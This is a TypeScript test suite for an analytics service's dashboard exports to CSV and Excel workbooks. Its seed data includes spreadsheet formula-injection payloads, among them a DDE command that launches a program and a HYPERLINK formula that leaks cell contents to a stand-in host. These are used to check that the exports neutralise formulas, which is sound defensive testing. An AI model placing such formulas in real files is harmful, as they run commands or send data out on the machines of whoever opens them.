import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import {
  DASHBOARD_NAMES,
  type DashboardName,
  DASHBOARDS as DEFINITIONS,
} from '../../../src/analytics/dashboards/dashboards.ts'
import { ENGAGEMENT_METRICS } from '../../../src/analytics/engagement/engagement-metrics.ts'
import { openApp, type TestApp } from '../../support/app/test-app.ts'
import { parseCsv, withoutGuards } from '../../support/http/csv.ts'
import { dated, tableOf, valuesOf } from '../../support/http/exported-tables.ts'
import { askForFile } from '../../support/http/file-request.ts'
import type { Claims } from '../../support/http/tokens.ts'
import { readWorkbook } from '../../support/http/xlsx.ts'

type Dashboard = DashboardName
const DASHBOARDS = DASHBOARD_NAMES
const tablesOf = (dashboard: Dashboard) => Object.keys(DEFINITIONS[dashboard].data.properties)
const mainTableOf = (dashboard: Dashboard) => DEFINITIONS[dashboard].mainTable

/** Valid names that need escaping in a file. */
const NAMES = [
  '=HYPERLINK("http://x.test/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  ' \t=1+1',
  '＝1+1',
  'Sale;=1+1',
  'Black, "Friday"\r\nSale',
  '\u202Eelas\u202C',
  'مبيعات الصيف',
  '😀 crème brûlée',
  '#N/A',
  '_x0041_',
]

const HEADINGS: Record<string, string> = {
  avgOpenRate: 'Average open rate',
  campaignId: 'Campaign ID',
  goalReached: 'Goal reached',
  hour: 'Hour',
  messageCount: 'Message count',
  openRate: 'Open rate',
  sent: 'Sent',
  stepNumber: 'Step number',
  totalMessagesSent: 'Total messages sent',
  usageCount: 'Usage count',
}

describe('exports', () => {
  let app: TestApp
  beforeAll(async () => {
    app = await openApp()
    const timestamp = new Date().toISOString()
    const event = (subject: string, data: Record<string, unknown>) =>
      [subject, { tenantId: 'a', timestamp, data }] as const
    const events = NAMES.flatMap((name, index) => {
      const [channel, contactId] = [index % 2 ? 'sms' : 'email', `contact-${index % 5}`]
      const message = { messageId: `m-${index}`, channel, contactId, campaignId: `=${index}`, campaignName: name }
      const template = { templateId: `tpl-${index}`, templateName: name }
      const step = { enrollmentId: `e-${index}`, sequenceId: `seq-${index}`, name, stepNumber: 1 + (index % 3) }
      return [
        event('pipeline.message.sent', { ...message, ...template }),
        event('pipeline.message.delivered', { ...message, ...template }),
        ...(index % 3 ? [event('pipeline.message.opened', { ...message, ...template })] : []),
        event('workflow.run.started', { runId: `r-${index}`, workflowId: `wf-${index}`, name }),
        event('sequence.step.executed', step),
      ]
    })
    await app.store(events)
  }, 60_000)
  afterAll(() => app?.close(), 30_000)

  const ask = (path: string, claims: Claims = {}) => askForFile(app, path, {}, claims)
  const json = async (path: string) => JSON.parse((await ask(path)).text) as { data: Record<string, unknown> }
  /** More than the number of names. */
  const LIMIT = 'limit=100'
  const questionOf = (dashboard: Dashboard) => (mainTableOf(dashboard).startsWith('top') ? LIMIT : '')

  test.each(DASHBOARDS)('of %s have every table of the JSON as CSV, to the last digit', async (dashboard) => {
    const question = questionOf(dashboard)
    const { data } = await json(`/${dashboard}?${question}`)
    // The search behind its numbers is no table.
    expect(Object.keys(data).filter((name) => name !== 'drill')).toEqual(tablesOf(dashboard))
    for (const table of tablesOf(dashboard)) {
      const expected = tableOf(data[table])
      const { status, text } = await ask(`/${dashboard}?${question}&format=csv&table=${table}`)
      expect(status).toBe(200)
      expect([table, valuesOf(parseCsv(text), expected)]).toEqual([table, expected])
    }
    const main = await ask(`/${dashboard}?${question}&format=csv`)
    expect(main.text).toBe((await ask(`/${dashboard}?${question}&format=csv&table=${mainTableOf(dashboard)}`)).text)
  })

  test.each(DASHBOARDS)('of %s have every table of the JSON as one sheet of the workbook', async (dashboard) => {
    const question = questionOf(dashboard)
    const { data } = await json(`/${dashboard}?${question}`)
    const sheets = readWorkbook((await ask(`/${dashboard}?${question}&format=xlsx`)).bytes)
    expect(sheets.map(({ name }) => name)).toEqual([...tablesOf(dashboard), 'about'])
    for (const { name, rows, boldHeaders } of sheets.slice(0, -1)) {
      const [headings, ...read] = rows.map((row) =>
        row.map((cell) => (typeof cell === 'string' ? withoutGuards(cell) : cell)),
      )
      const [keys, ...expected] = tableOf(data[name])
      expect([name, read] as unknown).toEqual([
        name,
        expected.map((row) => row.filter((value) => value !== null).map(dated)),
      ])
      for (const [index, key] of keys!.entries())
        expect(headings![index]).toEqual(
          HEADINGS[String(key)] ?? expect.stringMatching(/^[A-Z][a-z]+( [a-z]+)*( ID)?$/),
        )
      expect(boldHeaders).toBe(rows[0]!.length)
    }
    const about = sheets.at(-1)!.rows
    expect(about[0]?.slice(0, 5)).toEqual(['Dashboard', 'Start', 'End', 'Time zone', 'As of'])
    expect([about[1]?.[0], about[1]?.[3]]).toEqual([dashboard, 'UTC'])
  })

  test('have local days as dates and percentages with their sign in the workbook', async () => {
    const asked = '/campaigns?timezone=Europe/Berlin&startDate=2026-10-24&endDate=2026-10-26&format=xlsx'
    const sheets = readWorkbook((await ask(asked)).bytes)
    const { rows, formats } = sheets.find(({ name }) => name === 'timeSeries')!
    // 24 October 2026 is day 46,319; the clocks are set back in the night to the 26th.
    expect(rows.slice(1).map(([day]) => day)).toEqual([46_319, 46_320, 46_321])
    expect(formats[0]).toBe('yyyy-mm-dd')
    const about = sheets.at(-1)!
    expect(about.rows[1]!.slice(1, 4)).toEqual([46_319, 46_321 + 86_399_999 / 86_400_000, 'Europe/Berlin'])
    const top = readWorkbook((await ask('/campaigns?limit=1&format=xlsx')).bytes).find(
      ({ name }) => name === 'topCampaigns',
    )!
    const percentages = top.rows[0]!.flatMap((heading, index) =>
      /rate$|share$/.test(String(heading)) ? [top.formats[index]] : [],
    )
    expect(percentages).toEqual(Array.from({ length: 15 }, () => '0.00"%"'))
  })

  test('use the CSV separators that spreadsheets of other languages expect', async () => {
    const asked = '/campaigns?limit=100&format=csv&table=topCampaigns'
    const german = await ask(`${asked}&delimiter=semicolon&decimal=comma`)
    const plain = await ask(asked)
    const lineOf = (text: string) => text.split('\r\n')[0]!
    expect(lineOf(german.text)).toBe(lineOf(plain.text).replaceAll(',', ';'))
    expect(german.headers.get('etag')).not.toBe(plain.headers.get('etag'))
    for (const wrong of ['delimiter=;', 'decimal=,', 'delimiter=pipe'])
      expect((await ask(`${asked}&${wrong}`)).status).toBe(400)
  })

  test('have no cell that a spreadsheet reads as a formula, and every name in full', async () => {
    for (const table of ['campaigns', 'workflows', 'sequences', 'templates'] as const) {
      const csv = parseCsv((await ask(`/${table}?${LIMIT}&format=csv`)).text)
      const workbook = readWorkbook((await ask(`/${table}?${LIMIT}&format=xlsx`)).bytes)
      const sheet = workbook.find(({ name }) => name === mainTableOf(table))!.rows
      for (const records of [csv, sheet]) {
        const names = records.slice(1).map((record) => String(record[1]))
        expect(names.filter((name) => /(^|;)[\s"]*[=+\-@＝]|^[\t\r\n]/.test(name))).toEqual([])
        expect(names.map(withoutGuards).toSorted()).toEqual(NAMES.toSorted())
      }
    }
  })

  test('of a comparison have the older numbers beside the others, and a table of the changes', async () => {
    const compared = 'compare=previous&startDate=2026-03-02&endDate=2026-03-03'
    const csv = parseCsv((await ask(`/overview?${compared}&format=csv`)).text)
    expect(csv).toEqual([
      [
        ...['date', 'sent', 'delivered', 'opened', 'clicked'],
        ...['previousDate', 'previousSent', 'previousDelivered', 'previousOpened', 'previousClicked'],
      ],
      ['2026-03-02', '0', '0', '0', '0', '2026-02-23', '0', '0', '0', '0'],
      ['2026-03-03', '0', '0', '0', '0', '2026-02-24', '0', '0', '0', '0'],
    ])
    const { data } = JSON.parse((await ask('/messages?compare=previous')).text) as {
      data: {
        summary: Record<string, number>
        engagement: Record<string, number>
        comparison: {
          summary: Record<string, number>
          engagement: Record<string, number>
          change: Record<string, { absolute: number; percent: number | null }>
        }
      }
    }
    const { change } = data.comparison
    const [now, before] = [data, data.comparison].map(({ summary, engagement }) => ({ ...summary, ...engagement }))
    const changes = Object.entries(change).map(([name, { absolute, percent }]) =>
      [name, now![name], before![name], absolute, percent ?? ''].map(String),
    )
    // The medians of a range without messages cannot be compared.
    const numbers = Object.values(before!).filter((value) => value !== null)
    expect(changes.length).toBe(numbers.length)
    expect(changes.map(([name]) => name)).toContain('humanOpenRate')
    const head = ['number', 'current', 'previous', 'absolute', 'percent']
    const table = parseCsv((await ask('/messages?compare=previous&format=csv&table=comparison')).text)
    expect(table).toEqual([head, ...changes])
    const sheets = readWorkbook((await ask('/messages?compare=previous&format=xlsx')).bytes)
    expect(sheets.map(({ name }) => name)).toEqual([...tablesOf('messages'), 'comparison', 'about'])
    expect(sheets.at(-2)!.rows.length).toBe(changes.length + 1)
    expect(sheets.at(-1)!.rows[0]!.slice(-5)).toEqual([
      ...['Compare', 'Align', 'Previous start', 'Previous end', 'Elapsed until'],
    ])
    // Items of one entity are compared, a list of several is not.
    const columnsOf = async (query: string) => parseCsv((await ask(`/campaigns?${query}&format=csv`)).text)[0]
    expect(await columnsOf('compare=previous&campaignId=%3D1')).toContain('previousRecipients')
    expect(await columnsOf('compare=previous')).not.toContain('previousRecipients')
    expect((await ask('/messages?format=csv&table=comparison')).status).toBe(400)
  })

  test('of a missing older bucket have empty cells', async () => {
    const query = 'startDate=2026-03-02&endDate=2026-03-04&compare=custom&compareStart=2026-02-02&compareEnd=2026-02-02'
    const csv = parseCsv((await ask(`/overview?${query}&format=csv`)).text)
    expect(csv.map((row) => row[5])).toEqual(['previousDate', '2026-02-02', '', ''])
    const [sheet] = readWorkbook((await ask(`/overview?${query}&format=xlsx`)).bytes).filter(
      ({ name }) => name === 'trend',
    )
    expect(sheet!.rows.map((row) => row.length)).toEqual([10, 10, 5, 5])
  })

  test('of a tenant without events have their columns', async () => {
    const { text } = await ask('/campaigns?format=csv', { tenantId: 'nobody' })
    expect(parseCsv(text)).toEqual([
      [
        ...['campaignId', 'name', 'sent', 'delivered', 'opened', 'clicked', 'recipients', 'openRate', 'clickRate'],
        ...Object.keys(ENGAGEMENT_METRICS),
      ],
    ])
  })
})
